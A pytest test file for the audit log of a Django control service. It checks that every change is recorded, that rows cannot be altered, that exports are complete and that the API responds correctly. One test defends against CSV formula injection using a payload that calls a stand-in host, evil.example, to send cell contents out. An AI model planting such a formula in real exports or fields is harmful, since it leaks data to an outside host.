"""The audit log: each change writes to it, nothing alters it, and it comes out whole, by command and API."""

import ast
import csv
import io
import json
import tracemalloc
from collections.abc import Callable, Iterable, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.db import models, transaction
from django.test import Client
from django.utils import timezone

import moorage.control
from moorage.control.accounts.changes import change_user
from moorage.control.audit import exporting
from moorage.control.audit.actors import COMMAND_LINE, Actor
from moorage.control.audit.exporting import FIELDS, as_csv_lines, as_json_lines
from moorage.control.audit.models import AuditEntry, AuditIsKept
from moorage.control.projects.changes import change_project
from moorage.control.projects.rules import AccessLevel
from support.control_api import call
from support.control_rows import new_group, new_member, new_project, new_token, new_user

CONTROL = Path(moorage.control.__file__).parent

# Public functions of changes without an actor, and why they leave no row themselves.
WITHOUT_ACTOR = {
    "take_path": "a part of making and moving, whose rows have the path",
    "reserve_path": "as take_path",
    "free_path": "as take_path",
    "policy_of": "a row with the defaults is no change",
    "cadences": "it reads",
    "ensure_place": "a row to measure is no change",
    "ensure_places_of": "as ensure_place",
    "note_change": "what was pushed is in the registry's log",
    "note_move": "the move has its row",
    "note_deletion": "the deletion has its row",
    "keep_groups_owned": "it reads",
    "request_measurement": "a measurement changes nothing",
}
# Those whose row is written where the work ends: by move_project and move_group, which the steps of a move call.
RECORDED_AT_THE_END = ["move_group_with_images", "move_project_with_images"]


def changes_modules() -> Iterator[Path]:
    for path in sorted(CONTROL.rglob("*.py")):
        names = {"changes.py", "members.py", "moves.py", "recording.py", "undoing.py"}
        if path.parent.name not in {"audit", "routes", "views"} and (
            path.name in names or path.stem.endswith("_changes")
        ):
            yield path


def functions() -> dict[str, ast.FunctionDef]:
    return {
        node.name: node
        for path in changes_modules()
        for node in ast.parse(path.read_text()).body
        if isinstance(node, ast.FunctionDef)
    }


def called_by(node: ast.FunctionDef) -> set[str]:
    calls = (part.func for part in ast.walk(node) if isinstance(part, ast.Call))
    return {one.id for one in calls if isinstance(one, ast.Name)}


def reaches_record(name: str, known: dict[str, ast.FunctionDef], seen: Iterable[str] = ()) -> bool:
    called = called_by(known[name])
    rest = (called & known.keys()) - set(seen) - {name}
    return "record" in called or any(reaches_record(one, known, [*seen, name]) for one in rest)


def test_every_change_that_somebody_makes_is_recorded() -> None:
    known = functions()
    public = {name: node for name, node in known.items() if not name.startswith("_")}
    by_somebody = {
        name for name, node in public.items() if "by" in {one.arg for one in (*node.args.kwonlyargs, *node.args.args)}
    }
    assert len(by_somebody) > 40
    assert [name for name in sorted(by_somebody) if not reaches_record(name, known)] == RECORDED_AT_THE_END
    unnamed = [name for name in public.keys() - by_somebody if not reaches_record(name, known)]
    assert sorted(unnamed) == sorted(WITHOUT_ACTOR)


ALTERATIONS: dict[str, Callable[[AuditEntry], object]] = {
    "saved": lambda row: row.save(),
    "deleted": lambda row: row.delete(),
    "updated": lambda _: AuditEntry.objects.update(action="x"),
    "updated through the base manager": lambda row: AuditEntry._base_manager.filter(pk=row.pk).update(action="x"),
    "deleted through the base manager": lambda row: AuditEntry._base_manager.filter(pk=row.pk).delete(),
    "updated in bulk": lambda row: AuditEntry.objects.bulk_update([row], ["action"]),
    "written over in bulk": lambda row: AuditEntry.objects.bulk_create(
        [row], update_conflicts=True, unique_fields=["id"], update_fields=["action"]
    ),
    "updated or made": lambda row: AuditEntry.objects.update_or_create(pk=row.pk, defaults={"action": "x"}),
    "deleted without a question": lambda _: AuditEntry.objects.all()._raw_delete("default"),
    "saved as new over itself": lambda row: models.Model.save(row, force_update=True),
}


@pytest.mark.parametrize("way", ALTERATIONS)
def test_a_row_can_neither_be_altered_nor_deleted(way: str) -> None:
    new_project()
    row = AuditEntry.objects.latest("pk")
    before = list(AuditEntry.objects.values_list())
    row.action = "altered"
    with pytest.raises(AuditIsKept), transaction.atomic():
        ALTERATIONS[way](row)
    assert list(AuditEntry.objects.values_list()) == before


def test_a_change_is_there_with_who_what_from_to_credential_and_address(client: Client) -> None:
    owner = new_user()
    project, token = new_project(owner), new_token(owner)
    call(client, "PUT", f"/projects/{project.pk}", token=token.secret, values={"description": "new"})
    row = AuditEntry.objects.latest("pk")
    assert (row.actor_id, row.actor_name, row.address) == (owner.pk, owner.username, "127.0.0.1")
    assert row.credential == f"personal_access_token {token.token.pk}"
    assert (row.action, row.details) == ("project_changed", {"description": ["", "new"]})
    assert (row.entity_kind, row.entity_id, row.entity_path) == ("project", project.pk, project.full_path)
    assert token.secret not in json.dumps(list(AuditEntry.objects.values()), default=str)


def test_parts_of_a_project_a_group_or_a_user_are_in_its_log() -> None:
    group = new_group()
    project = new_project(group)
    new_member(group, AccessLevel.DEVELOPER)
    new_member(project, AccessLevel.DEVELOPER)
    user = new_user()
    new_token(user)
    logs = {(row.action, row.entity_kind, row.entity_path) for row in AuditEntry.objects.all()}
    assert {
        ("member_added", "group", group.full_path),
        ("member_added", "project", project.full_path),
        ("token_created", "user", user.username),
    } <= logs


def test_an_export_has_every_row_once_oldest_first_however_many() -> None:
    user = new_user()
    for number in range(3):
        change_user(user, by=COMMAND_LINE, name=f'name, {number} "quoted"')
    found = json.loads("".join(as_json_lines(AuditEntry.objects.all())))
    assert [row["id"] for row in found] == sorted(AuditEntry.objects.values_list("pk", flat=True))
    assert found[-1]["details"] == {"name": ['name, 1 "quoted"', 'name, 2 "quoted"']}
    lines = list(csv.DictReader(io.StringIO("".join(as_csv_lines(AuditEntry.objects.all())))))
    assert [int(row["id"]) for row in lines] == [row["id"] for row in found]
    assert tuple(lines[0]) == FIELDS
    assert json.loads(lines[-1]["details"]) == found[-1]["details"]
    assert json.loads("".join(as_json_lines(AuditEntry.objects.none()))) == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", ";", "\t"], ids=ascii)
def test_a_name_in_an_exported_table_is_no_formula(start: str) -> None:
    """Name it as those can who make deploy tokens; who opens the table is an administrator."""
    name = f'{start}HYPERLINK("https://evil.example/?"&A1,"x")'
    change_user(new_user(), by=Actor(name=name), name="x")
    text = "".join(as_csv_lines(AuditEntry.objects.all()))
    assert list(csv.DictReader(io.StringIO(text)))[-1]["actor_name"] == f"'{name}"
    found = json.loads("".join(as_json_lines(AuditEntry.objects.all())))
    assert found[-1]["actor_name"] == name


def test_an_export_is_bounded_in_time_by_its_ends() -> None:
    project, now = new_project(), timezone.now()
    change_project(project, by=COMMAND_LINE, description="x")
    rows = AuditEntry.objects
    last = rows.latest("pk").at
    assert rows.within(now, None).count() == rows.within(last, None).count() == 1
    assert rows.within(None, last).count() == rows.count() - 1
    assert rows.within(last, last + timedelta(days=1)).get().action == "project_changed"


def test_an_export_holds_a_few_rows_at_a_time(monkeypatch: pytest.MonkeyPatch) -> None:
    chunk, chunks, size = 200, 10, 2000
    monkeypatch.setattr(exporting, "CHUNK", chunk)
    row = AuditEntry(at=timezone.now(), actor_name="x", action="x", target_kind="x", details={"text": "x" * size})
    models.QuerySet.bulk_create(AuditEntry.objects.all(), [_copy(row) for _ in range(chunk * chunks)])
    tracemalloc.start()
    try:
        count = sum(text.count("\n") for text in as_json_lines(AuditEntry.objects.all()))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count > chunk * chunks
    assert peak < chunks // 2 * chunk * size, "half of what all would be"


def _copy(row: AuditEntry) -> AuditEntry:
    names = ("at", "actor_name", "action", "target_kind", "details")
    return AuditEntry(**{name: getattr(row, name) for name in names})


def answered(client: Client, path: str, token: str) -> Any:  # noqa: ANN401 - JSON
    answer = call(client, "GET", path, token=token)
    assert answer.status_code == 200, answer.content
    return json.loads(answer.content)


def test_audit_events_are_in_gitlab_s_shape_for_who_may_see_them(client: Client) -> None:
    owner, admin = new_user(), new_token(new_user(is_admin=True)).secret
    project, token = new_project(owner), new_token(owner).secret
    change_project(project, by=Actor(user_id=owner.pk, name=owner.username, address="192.0.2.7"), description="new")
    (event, *_) = answered(client, "/audit_events?per_page=1", admin)
    assert event["details"] | {"entity_path": ""} == {
        "author_name": owner.username,
        "author_class": "User",
        "target_id": project.pk,
        "target_type": "project",
        "target_details": project.full_path,
        "custom_message": "project changed",
        "ip_address": "192.0.2.7",
        "entity_path": "",
        "credential": "",
        "change": "description",
        "from": "",
        "to": "new",
        "changes": {"description": ["", "new"]},
    }
    assert (event["author_id"], event["entity_type"], event["entity_id"]) == (owner.pk, "Project", project.pk)
    assert answered(client, f"/audit_events/{event['id']}", admin) == event
    assert answered(client, f"/projects/{project.pk}/audit_events", token)[0] == event
    assert answered(client, f"/projects/{project.pk}/audit_events/{event['id']}", token) == event
    query = f"entity_type=Project&entity_id={project.pk}"
    assert {row["entity_id"] for row in answered(client, f"/audit_events?{query}", admin)} == {project.pk}
    assert answered(client, "/audit_events?created_after=2999-01-01", admin) == []
    assert answered(client, "/audit_events?created_before=9999-12-31T23:59:59Z", admin)
    assert call(client, "GET", "/audit_events?created_before=9999-12-31T23:59:59-05:00", token=admin).status_code == 400
    assert call(client, "GET", "/audit_events", token=token).status_code == 403
    assert call(client, "DELETE", f"/audit_events/{event['id']}", token=admin).status_code == 405
